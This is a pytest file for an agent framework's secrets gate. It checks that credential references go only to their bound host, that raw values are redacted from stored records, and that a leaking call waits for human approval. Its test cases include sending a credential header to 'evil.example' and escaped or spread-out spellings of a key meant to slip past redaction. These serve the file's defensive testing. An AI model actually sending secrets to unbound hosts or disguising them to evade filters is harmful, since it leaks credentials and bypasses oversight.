"""Secrets at the gate: a reference is what is stored and asked about, and goes where the owner bound it, or nowhere."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from alfred.actions.context import ActionContext
from alfred.actions.declare import action
from alfred.actions.kinds import Effect, Risk
from alfred.config_schema import Settings
from alfred.trust import redact
from tests.promises.gate.conftest import Bench, code

VALUE = "value-of-the-key-4711"
sent: list[Any] = []


def _host(args: dict[str, Any], ctx: ActionContext) -> list[str]:
    if args["host"] == "nowhere":
        raise ValueError("no host")
    return [args["host"]]


@action(
    "t.get",
    integration="t",
    risk=Risk.NONE,
    effect=Effect.PURE,
    destinations=_host,
    references="headers",
)
def get(host: str, headers: dict[str, str] | None = None, *, ctx: ActionContext) -> str:
    """Asks a host.

    Args:
        host: Which.
        headers: Credentials, by reference.
    """
    sent.append((host, headers, ctx.secrets("FORUM_KEY")))
    return "welcome"


@action(
    "t.post",
    integration="t",
    risk=Risk.MEDIUM,
    effect=Effect.BLIND,
    destinations=_host,
    references="headers",
)
def post(host: str, headers: dict[str, str] | None = None) -> str:
    """Tells a host something.

    Args:
        host: Which.
        headers: Credentials, by reference.
    """
    sent.append((host, headers))
    return "ok"


@action("t.say", integration="t", risk=Risk.NONE, effect=Effect.BLIND)
def say(text: str) -> str:
    """Says something to the world.

    Args:
        text: What.
    """
    sent.append(text)
    return "ok"


@action("shell.run", integration="shell", risk=Risk.NONE, effect=Effect.BLIND)
def inside(text: str) -> str:
    """Stays in the workspace.

    Args:
        text: What.
    """
    sent.append(text)
    return "ok"


held: list[tuple[str, str]] = []


def _held(args: dict[str, Any], ctx: ActionContext) -> list[tuple[str, str]]:
    if args["name"] == "broken":
        raise ValueError(VALUE)
    return held


@action("t.share", integration="t", risk=Risk.NONE, effect=Effect.BLIND, sends=_held)
def share(name: str) -> str:
    """Sends a thing that lies here.

    Args:
        name: Which.
    """
    sent.append(name)
    return "ok"


@pytest.fixture
def bench(new_bench: Callable[..., Bench]) -> Iterator[Bench]:
    sent.clear()
    held.clear()
    made = new_bench(get, post, say, inside, share)
    made.settings = Settings.model_validate(
        {"timezone": "UTC", "secrets": {"FORUM_KEY": ["forum.example"], "EMPTY": ["forum.example"]}}
    )
    made.secrets["FORUM_KEY"] = VALUE
    redact.register(VALUE, "FORUM_KEY")
    yield made
    redact.forget_all()


KEY = {"Authorization": "secret://FORUM_KEY"}

REFUSED: list[tuple[str, dict[str, Any], str]] = [
    ("t.get", {"host": "evil.example", "headers": KEY}, "may go to forum.example, not to"),
    ("t.post", {"host": "evil.example", "headers": KEY}, "may go to forum.example, not to"),
    ("t.get", {"host": "nowhere", "headers": KEY}, "cannot be told"),
    (
        "t.get",
        {"host": "forum.example", "headers": {"A": "secret://FORUM_KEX"}},
        "Did you mean secret://FORUM_KEY?",
    ),
    (
        "t.get",
        {"host": "forum.example", "headers": {"A": "secret://EMPTY"}},
        "has no value",
    ),
    ("t.get", {"host": "secret://FORUM_KEY", "headers": None}, "host of t.get is no place"),
    ("t.say", {"text": "my key is secret://FORUM_KEY"}, "text of t.say is no place"),
]


def test_a_reference_that_may_not_go_there_is_refused_before_anybody_is_asked(bench: Bench) -> None:
    calls = bench.does(*((name, args) for name, args, _ in REFUSED))
    assert {code(call) for call in calls} == {"secret_refused"}
    for call, (_, _, why) in zip(calls, REFUSED, strict=True):
        assert why in json.loads(call.result or "")["error"]["detail"]
    assert sent == []
    assert bench.cards() == []


def test_the_reference_is_what_is_stored_hashed_and_asked_about(bench: Bench) -> None:
    (call,) = bench.does(("t.post", {"host": "forum.example", "headers": KEY}))
    assert "secret://FORUM_KEY" in bench.card().preview
    bench.decide("approve", args_hash=bench.card().args_hash)
    bench.secrets["FORUM_KEY"] = (
        "another-value-since"  # rotated: what was approved is the reference
    )
    bench.go()
    (call,) = bench.calls(call.run_id)
    assert (call.status, call.arguments["headers"]) == ("done", KEY)
    assert sent == [("forum.example", KEY)]
    rows = [bench.all(f"select * from {table}") for table in ("calls", "approvals", "events")]
    assert VALUE not in json.dumps([[list(row) for row in some] for some in rows], default=str)


def test_text_about_references_is_only_text(bench: Bench) -> None:
    about = "write secret://NAME, or secret://FORUM_KEY"
    calls = bench.does(("t.say", {"text": "write secret://NAME"}), ("shell.run", {"text": about}))
    assert [call.status for call in calls] == ["done", "done"]


# ---- in the clear


def rows(bench: Bench) -> str:
    """All that is written down."""
    tables = ("calls", "approvals", "events", "audit")
    found = [[list(row) for row in bench.all(f"select * from {name}")] for name in tables]
    return json.dumps(found, default=str)


def test_what_leaves_with_a_secret_is_high_in_every_mode_and_the_card_says_which_and_where(
    bench: Bench,
) -> None:
    bench.settings = Settings.model_validate({"policy": {"mode": "autonomous"}})
    (call,) = bench.does(("t.say", {"text": f"the key is {VALUE}"}))
    card = bench.card()
    assert (call.status, card.risk, sent) == ("staged", "high", [])
    assert card.preview.startswith("! A secret would leave: FORUM_KEY in text.\n\n")
    assert "by secrets high: A secret would leave: FORUM_KEY in text." in (call.decision or "")
    assert VALUE not in rows(bench)
    bench.decide("approve", args_hash=card.args_hash)
    bench.go()
    assert sent == [f"the key is {VALUE}"], "what a person allows is carried out as it is"
    assert VALUE not in rows(bench)


def test_a_secret_that_is_spelt_in_another_way_is_on_no_card_either(bench: Bench) -> None:
    spelt = "".join(f"\\u{ord(c):04x}" for c in VALUE)
    spread = " ".join(VALUE)
    bench.does(("t.say", {"text": f"look at {spelt} here"}), ("t.say", {"text": f"it is {spread}"}))
    for card, seen in zip(bench.cards(), (spelt, spread), strict=True):
        assert card.risk == "high"
        assert seen not in json.dumps([card.preview, card.title, card.provenance])
        assert "[redacted:FORUM_KEY:" in card.preview
    assert "look at [redacted:" in bench.cards()[0].preview


def test_asking_somebody_is_sending(bench: Bench) -> None:
    (call,) = bench.does(("t.get", {"host": VALUE}))
    assert (call.status, call.risk, sent) == ("staged", "high", [])


def test_what_stays_in_the_workspace_takes_nothing_out(bench: Bench) -> None:
    (call,) = bench.does(("shell.run", {"text": VALUE}))
    assert (call.status, sent) == ("done", [VALUE])
    assert VALUE not in rows(bench)


def test_what_is_sent_besides_the_arguments_is_looked_through(bench: Bench) -> None:
    held[:] = [("notes.txt", "nothing in it"), ("keys.txt", f"a key: {VALUE}")]
    (call,) = bench.does(("t.share", {"name": "notes"}))
    assert (call.status, call.risk) == ("staged", "high")
    assert bench.card().preview.startswith("! A secret would leave: FORUM_KEY in keys.txt.")
    held.clear()
    assert bench.does(("t.share", {"name": "notes"}))[0].status == "done"


def test_what_cannot_be_looked_through_is_high(bench: Bench) -> None:
    (call,) = bench.does(("t.share", {"name": "broken"}))
    assert (call.status, call.risk, sent) == ("staged", "high", [])
    assert "! Not all that leaves could be looked through" in bench.card().preview
    assert VALUE not in rows(bench)
